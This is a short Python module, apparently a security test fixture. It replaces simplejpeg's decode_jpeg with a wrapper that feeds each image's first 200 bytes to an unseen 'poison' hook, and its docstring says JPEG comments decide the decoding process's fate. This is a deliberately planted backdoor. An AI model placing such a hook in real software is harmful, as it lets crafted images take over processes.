"""A libjpeg with holes in it, for every process that has this folder in its PYTHONPATH.

What a JPEG's comment says becomes of the process that decodes it; all others are decoded as ever.
"""

import poison
import simplejpeg

_decode = simplejpeg.decode_jpeg


def _decode_or_die(data: bytes, *arguments: object, **options: object) -> object:
    poison.take(bytes(data[:200]))
    return _decode(data, *arguments, **options)


simplejpeg.decode_jpeg = _decode_or_die
